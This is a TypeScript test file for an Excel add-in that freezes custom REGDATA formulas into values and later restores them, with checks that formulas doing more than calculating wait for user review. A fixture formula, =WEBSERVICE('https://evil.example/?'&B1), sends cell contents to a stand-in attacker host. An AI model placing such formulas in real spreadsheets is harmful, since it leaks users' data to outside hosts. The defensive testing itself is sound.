import { SheetFailure } from "../../../src/sheet-failure";
import { describe, expect, it } from "vitest";
import { Failure } from "../../../src/errors";
import {
  freezeFormulas,
  planFreeze,
  planUnfreeze,
  type SeenFormula,
  type Unfrozen,
  unfreezeFormulas,
} from "../../../src/workbook/cell-formulas/freeze";
import {
  frozenXml,
  type FrozenFormula,
  parseFrozenXml,
} from "../../../src/workbook/cell-formulas/frozen-formulas";
import {
  type CellContents,
  cellKey,
  type FormulaCell,
} from "../../../src/workbook/sheet/cells/formula-search";
import type { Scalar } from "../../../src/workbook/sheet/values/cell-value";

const formula = '=REGDATA.VALUE("06001",1056)';
const cell = (row: number, rows = 1, columns = 1): FormulaCell => ({
  ...{ sheetId: "s", sheetName: "Sheet1", row, column: 0, rows, columns, formula },
});

/** An Excel that takes no names. */
const refused = () => Promise.reject(new SheetFailure("sheet-refused"));

/** The contents of cells from the first column on, by row. */
function contents(rows: Record<number, (Scalar | Partial<CellContents>)[]>): Map<string, CellContents> {
  const cells = new Map<string, CellContents>();
  for (const [row, each] of Object.entries(rows)) {
    each.forEach((given, column) => {
      const known = typeof given === "object" ? given : { value: given };
      const value = known.value ?? "";
      const text = String(value);
      cells.set(cellKey("s", Number(row), column), {
        ...{ value, text, formula: text, numberFormat: "General" },
        ...known,
      });
    });
  }
  return cells;
}

const states = (change: { after: { content: Scalar; numberFormat: string | null }[][] } | undefined) =>
  change?.after.map((row) => row.map(({ content, numberFormat }) => [content, numberFormat]));

describe("freezing", () => {
  it("keeps texts text, whatever they look like, and the format of all else", () => {
    const given: (Scalar | Partial<CellContents>)[][] = [
      ["06001"],
      ["=1+1"],
      ["'quoted"],
      [{ value: 12.5, numberFormat: "0.00" }],
      [true],
      [""],
    ];
    const { changes } = planFreeze(
      given.map((_, row) => cell(row)),
      contents({ ...given }),
      new Map(),
    );
    expect(changes.map(states).flat(2)).toEqual([
      ["06001", "@"],
      ["=1+1", "@"],
      ["''quoted", "General"],
      [12.5, null],
      [true, null],
      ["", null],
    ]);
  });

  it("keeps no format of texts for a formula, and brings none back with it", () => {
    const frozen = planFreeze([cell(0)], contents({ 0: [{ value: "$30", numberFormat: "@" }] }), new Map());
    expect(frozen.formulas).toMatchObject([{ formula, numberFormats: "General" }]);
    const kept = { ...frozen.formulas[0]!, numberFormats: "@" };
    const { changes } = planUnfreeze([kept], contents({ 0: [{ value: "$30", numberFormat: "@" }] }));
    expect(changes.map(states).flat(2)).toEqual([[formula, "General"]]);
  });

  it("takes the format that a number brought along, and leaves the formula if Excel can't tell that format", () => {
    const date = contents({
      0: [{ value: 46_204, text: "2026-07-01" }],
      1: [{ value: 0.333333333, text: "0.333333" }],
    });
    const known = planFreeze([cell(0), cell(1)], date, new Map([[cellKey("s", 0, 0), "yyyy-mm-dd"]]));
    expect(known.changes.map(states).flat(2)).toEqual([
      [46_204, "yyyy-mm-dd"],
      [0.333333333, null],
    ]);
    const unknown = planFreeze([cell(0), cell(1)], date, undefined);
    expect(unknown.left.map(({ row, reason }) => [row, reason])).toEqual([
      [0, "shows a number in a form that this Excel can't keep"],
    ]);
  });

  it("leaves errors and waiting formulas, but not a table because some cells have no value", () => {
    const shown = contents({
      0: ["#N/A"],
      1: ["#BUSY!"],
      2: ["a", "#N/A"],
      3: ["#VALUE!", "b"],
      4: ["#N/A", "#N/A"],
    });
    const cells = [cell(0), cell(1), cell(2, 1, 2), cell(3, 1, 2), cell(4, 1, 2)];
    const plan = planFreeze(cells, shown, new Map());
    expect(plan.left.map(({ row, reason }) => [row, reason])).toEqual([
      [0, "shows #N/A"],
      [1, "still waits for its answer"],
      [3, "shows #VALUE! in 1 of its 2 cells"],
      [4, "shows #N/A"],
    ]);
    expect(plan.formulas.map(({ row }) => row)).toEqual([2]);
    expect(plan.withoutValue).toBe(1);
    expect(states(plan.changes[0])).toEqual([
      [
        ["a", "@"],
        ["#N/A", null],
      ],
    ]);
  });
});

describe("a result that is larger than what is read again", () => {
  it("is left unfrozen", () => {
    const { left, formulas } = planFreeze([cell(0, 1_048_576, 2)], new Map(), new Map());
    expect(left.map(({ reason }) => reason)).toEqual(["fills more cells than can be brought back"]);
    expect(formulas).toEqual([]);
  });
});

describe("a freezing that fails", () => {
  it.each([
    ["forgets the formulas that stand again", formula, []],
    ["remembers those that could not be put back", "06001", ["part 1"]],
  ])("%s", async (_, left, expected) => {
    const parts: string[] = [];
    const now = contents({ 0: [{ value: "06001", formula: left }] });
    const failing = freezeFormulas(
      [cell(0)],
      {
        readCells: () => Promise.resolve(now),
        readOwnFormats: () => Promise.resolve(undefined),
        replaceCells: () => Promise.reject(new SheetFailure("sheet-refused")),
        run: refused,
        writePart: () => Promise.resolve(`part ${parts.push("part 1")}`),
        deletePart: (id) => Promise.resolve(void parts.splice(parts.indexOf(id), 1)),
      },
      { signal: new AbortController().signal, onProgress: () => undefined, canSeeDataTypes: true },
    );
    await expect(failing).rejects.toMatchObject({ kind: "sheet-refused" });
    expect(parts).toEqual(expected);
  });
});

it("reports the failure itself, even if Excel then refuses to delete what it remembers", async () => {
  const failing = freezeFormulas(
    [cell(0)],
    {
      readCells: () => Promise.resolve(contents({ 0: [{ value: "06001", formula }] })),
      readOwnFormats: () => Promise.resolve(undefined),
      replaceCells: () =>
        Promise.reject(new SheetFailure("sheet-refused", { detail: "The sheet is protected." })),
      run: refused,
      writePart: () => Promise.resolve("part"),
      deletePart: () => Promise.reject(new Error("refused")),
    },
    { signal: new AbortController().signal, onProgress: () => undefined, canSeeDataTypes: true },
  );
  await expect(failing).rejects.toMatchObject({ kind: "sheet-refused", detail: "The sheet is protected." });
});

describe("a frozen cell that does not hold its value afterwards", () => {
  it.each<[string, string, number, string, string]>([
    ["gets its formula back if Excel left an error there", "#BUSY!", 2, "could not be frozen", "no part"],
    [
      "keeps a text that somebody has typed there",
      "Ann's note",
      1,
      "was changed while it was frozen",
      "part",
    ],
  ])("%s, and does not count as frozen", async (_, found, writes, reason, remembered) => {
    let now: Partial<CellContents> = { value: "NEC 2020", formula };
    let written = 0;
    let part = "no part";
    const done = await freezeFormulas(
      [cell(0)],
      {
        readCells: () => Promise.resolve(contents({ 0: [now] })),
        readOwnFormats: () => Promise.resolve(undefined),
        replaceCells: () => {
          written += 1;
          now = written === 1 ? { value: found, formula: found } : { value: "NEC 2020", formula };
          return Promise.resolve();
        },
        run: refused,
        writePart: () => Promise.resolve((part = "part")),
        deletePart: () => Promise.resolve(void (part = "no part")),
      },
      { signal: new AbortController().signal, onProgress: () => undefined, canSeeDataTypes: true },
    );
    expect(done.formulas).toEqual([]);
    expect(done.left.map((each) => each.reason)).toEqual([expect.stringContaining(reason)]);
    expect([written, part]).toEqual([writes, remembered]);
  });
});

describe("unfreezing", () => {
  const freeze = (shown: Map<string, CellContents>, ...cells: FormulaCell[]): FrozenFormula[] =>
    planFreeze(cells, shown, new Map()).formulas;

  it("brings formula and formats back if the frozen values all still stand there", () => {
    const before = contents({ 0: [{ value: "06001", numberFormat: "0.0" }, 7] });
    const frozen = freeze(before, cell(0, 1, 2));
    const now = contents({ 0: [{ value: "06001", numberFormat: "@" }, 7] });
    const { changes, left } = planUnfreeze(frozen, now);
    expect(left).toEqual([]);
    expect(states(changes[0])).toEqual([
      [
        [formula, "0.0"],
        ["", "General"],
      ],
    ]);
  });

  it.each<[string, (Scalar | Partial<CellContents>)[], string]>([
    [
      "one cell of the spill was changed",
      ["a", 8],
      "no longer shows what was frozen: it was changed or moved",
    ],
    ["a number became the same text", ["a", "7"], "no longer shows what was frozen: it was changed or moved"],
    ["another formula shows the same", [{ value: "a", formula: "=B1" }, 7], "holds another formula now"],
  ])("leaves everything as it is if %s", (_, now, reason) => {
    const frozen = freeze(contents({ 0: ["a", 7] }), cell(0, 1, 2));
    const plan = planUnfreeze(frozen, contents({ 0: now }));
    expect([plan.changes, plan.back]).toEqual([[], []]);
    expect(plan.left.map((each) => each.reason)).toEqual([reason]);
  });

  it("takes a text that looks like a formula as a text", () => {
    const frozen = freeze(contents({ 0: ["=1+1"] }), cell(0));
    expect(planUnfreeze(frozen, contents({ 0: [{ value: "=1+1", numberFormat: "@" }] })).back).toHaveLength(
      1,
    );
  });

  it("brings back the newer of two formulas of one cell", () => {
    const [one] = freeze(contents({ 0: ["a"] }), cell(0));
    const [other] = freeze(contents({ 0: ["a"] }), { ...cell(0), formula: "=REGDATA.VALUE(A9,1)" });
    if (!one || !other) throw new Error("nothing was frozen");
    const { back, left } = planUnfreeze([other, one], contents({ 0: ["a"] }));
    expect([back, left.length]).toEqual([[other], 1]);
  });
});

describe("formulas that are brought back into a sheet", () => {
  /** Three frozen formulas in an Excel that reacts to each row as given; the freeze is cancelled once they are there. */
  async function unfreeze(
    excel: (row: number) => string | null,
    { foreign, seen = [], more = 0 }: { foreign?: string; seen?: SeenFormula[]; more?: number } = {},
  ) {
    const stop = new AbortController();
    const shown = contents({ 0: ["a"], 1: ["b"], 2: ["c"] });
    const { formulas } = planFreeze([cell(0), cell(1), cell(2)], shown, new Map());
    if (foreign !== undefined && formulas[1]) formulas[1].formula = foreign;
    for (let row = 3; row < 3 + more; row += 1) formulas.push({ ...formulas[1]!, row });
    const now = new Map(shown);
    const kept = new Map(
      frozenXml({ atMs: 5, formulas, unreadable: [] }).map((xml, id) => [String(id), xml]),
    );
    const workbook: Parameters<typeof unfreezeFormulas>[1] = {
      readParts: () => Promise.resolve([...kept].map(([id, xml]) => ({ id, xml }))),
      scopeNow: () => Promise.resolve({ sheets: [{ id: "s", name: "Sheet1" }], areas: null }),
      readCells: (_, __, signal) => {
        if (signal?.aborted) return Promise.reject(new Failure("cancelled"));
        return Promise.resolve(now);
      },
      run: refused,
      replaceCells(changes) {
        if (changes.some(({ row }) => excel(row) === null)) {
          return Promise.reject(new SheetFailure("sheet-refused", { detail: "Excel says no." }));
        }
        for (const { row } of changes) {
          const key = cellKey("s", row, 0);
          now.set(key, { ...now.get(key)!, formula: excel(row) ?? "" });
        }
        return Promise.resolve();
      },
      writePart: (id, xml) => Promise.resolve(void kept.set(id ?? "new", xml)).then(() => id ?? "new"),
      deletePart: (id) => Promise.resolve(void kept.delete(id)),
    };
    let asked = 0;
    const calls = {
      askAnew: <Result>(work: () => Promise<Result>) => work(),
      idle() {
        asked += 1;
        if (asked > 1) stop.abort();
        return Promise.resolve(0);
      },
    };
    const options = { signal: stop.signal, onProgress: () => undefined, namespace: "REGDATA", calls, seen };
    const rowsOf = (each: readonly { row: number }[]) => each.map(({ row }) => row);
    const remembered = () =>
      rowsOf([...kept.values()].flatMap((xml) => parseFrozenXml(xml, "REGDATA")?.formulas ?? []));
    const report = await unfreezeFormulas("workbook", workbook, options).catch((thrown: unknown) => thrown);
    return { report, remembered: remembered() };
  }

  it("are reported as back if the wait for their results is cancelled, without a comparison", async () => {
    const { report, remembered } = await unfreeze(() => formula);
    expect(report).toMatchObject({ back: [{ row: 0 }, { row: 1 }, { row: 2 }], left: [], changes: null });
    expect(remembered).toEqual([]);
  });

  it.each([
    ["Excel refuses", null, "its formula was not written: Excel refused it, or you cancelled"],
    ["Excel puts another one in its place", "=REGDATA.VALUE(A9,1)", "got another formula from Excel"],
  ])("come back without the one that %s, which stays frozen", async (_, there, reason) => {
    const { report, remembered } = await unfreeze((row) => (row === 1 ? there : formula));
    expect(report).toMatchObject({ back: [{ row: 0 }, { row: 2 }], left: [{ row: 1, reason }] });
    expect(remembered).toEqual([1]);
  });

  it("do not come back before the user has seen them if they do more than calculate", async () => {
    const foreign = `=WEBSERVICE("https://evil.example/?"&B1)&${formula.slice(1)}`;
    const entered: string[] = [];
    const excel = (row: number) => {
      entered.push(row === 1 ? foreign : formula);
      return row === 1 ? foreign : formula;
    };
    const { report, remembered } = await unfreeze(excel, { foreign });
    expect(report).toMatchObject({
      back: [{ row: 0 }, { row: 2 }],
      left: [],
      toBeSeen: [{ row: 1, formula: foreign }],
    });
    expect(entered).not.toContain(foreign);
    expect(remembered).toEqual([1]);
    const { report: after } = await unfreeze(excel, { foreign, seen: [{ ...cell(1), formula: foreign }] });
    expect(after).toMatchObject({ back: [{ row: 0 }, { row: 1 }, { row: 2 }], toBeSeen: [] });
  });

  it("do not come back if the user has seen another formula, or another place", async () => {
    const foreign = `=WEBSERVICE("https://evil.example/?"&B1)&${formula.slice(1)}`;
    const seen = [
      { ...cell(1), formula: foreign.replace("B1", "B2") },
      { ...cell(0), formula: foreign },
    ];
    const { report, remembered } = await unfreeze(() => formula, { foreign, seen });
    expect(report).toMatchObject({
      ...{ back: [{ row: 0 }, { row: 2 }], seen, toBeSeenLater: 0 },
      toBeSeen: [{ row: 1, formula: foreign }],
    });
    expect(remembered).toEqual([1]);
  });

  it("are shown to the user a few at a time", async () => {
    const { report } = await unfreeze(() => formula, { foreign: `=EVIL(${formula.slice(1)})`, more: 250 });
    expect(report).toMatchObject({ toBeSeenLater: 51 });
    expect((report as Unfrozen).toBeSeen.map(({ row }) => row)).toEqual([
      1,
      ...Array.from({ length: 199 }, (_, index) => index + 3),
    ]);
  });

  it("stay frozen, with Excel's words, if Excel refuses them all", async () => {
    const { report, remembered } = await unfreeze(() => null);
    expect(report).toMatchObject({ kind: "sheet-refused", detail: "Excel says no." });
    expect(remembered).toEqual([0, 1, 2]);
  });
});

describe("a workbook's record of frozen formulas", () => {
  const [frozen] = planFreeze(
    [cell(3, 2, 2)],
    contents({ 3: ["<&'\"é\u0001]]>", 1], 4: [2, 3] }),
    new Map(),
  ).formulas;
  const formulas = frozen ? [frozen] : [];
  const part = (content: object) => {
    const json = JSON.stringify({ version: 1, atMs: 5, formulas, ...content });
    return `<frozen xmlns="urn:regdata:frozen">${json.replaceAll("<", "\\u003c")}</frozen>`;
  };

  it("is read as it was written, in parts that stay small", () => {
    const [xml = "", ...more] = frozenXml({ atMs: 5, formulas, unreadable: [] });
    expect(parseFrozenXml(xml, "REGDATA")).toEqual({ atMs: 5, formulas, unreadable: [] });
    expect(more).toEqual([]);
    const many = Array.from({ length: 10_000 }, (_, row) => ({ ...formulas[0]!, row }));
    const parts = frozenXml({ atMs: 5, formulas: many, unreadable: [] });
    expect(parts.length).toBeGreaterThan(1);
    expect(Math.max(...parts.map((part) => part.length))).toBeLessThan(1_200_000);
    expect(parts.flatMap((part) => parseFrozenXml(part, "REGDATA")?.formulas ?? [])).toEqual(many);
  });

  it.each<[string, object]>([
    ["that is none of the add-in's", { formula: '=HYPERLINK("x")' }],
    ["that is a text which only speaks of one", { formula: '=CALL("REGDATA.VALUE(1)")' }],
    ["beyond the sheet", { row: 1_048_575 }],
    ["with a row that is none", { row: -1 }],
    ["of a size that no formula has", { rows: 1_000_000, columns: 16_000 }],
    ["with formats of another shape", { numberFormats: [["0"]] }],
  ])("is ignored for a formula %s; others beside it are read", (_, change) => {
    const damaged = { ...frozen, ...change };
    const read = parseFrozenXml(part({ formulas: [damaged, ...formulas] }), "REGDATA");
    expect(read).toEqual({ atMs: 5, formulas, unreadable: [damaged] });
    // The unreadable text stays as it is when the part is written again.
    const [again = ""] = frozenXml({ atMs: 5, formulas: [], unreadable: [damaged] });
    expect(parseFrozenXml(again, "REGDATA")).toEqual({ atMs: 5, formulas: [], unreadable: [damaged] });
  });

  it("is ignored if it is nested deeper than anything that the add-in writes", () => {
    const deep = `${"[".repeat(200_000)}${"]".repeat(200_000)}`;
    const xml = part({ formulas: ["deep"] }).replace('"deep"', deep);
    expect(parseFrozenXml(xml, "REGDATA")).toBeNull();
  });

  it("is told at once from other parts, however many quotes stand in them", () => {
    const quotes = "'".repeat(9_900);
    const foreign = [`=REGDATA.VALUE(1)${quotes}`, `=[${"['".repeat(4_900)}REGDATA.VALUE(1)`];
    const many = Array.from({ length: 480 }, (_, row) => ({
      ...formulas[0]!,
      row,
      formula: foreign[row % 2],
    }));
    const read = parseFrozenXml(part({ formulas: many }), "REGDATA");
    expect(read?.formulas.length).toBe(240);
    expect(read?.unreadable.length).toBe(240);
  });

  it("is ignored if another version wrote it", () => {
    expect(parseFrozenXml(part({}), "REGDATA")).not.toBeNull();
    expect(parseFrozenXml(part({ version: 2 }), "REGDATA")).toBeNull();
  });
});
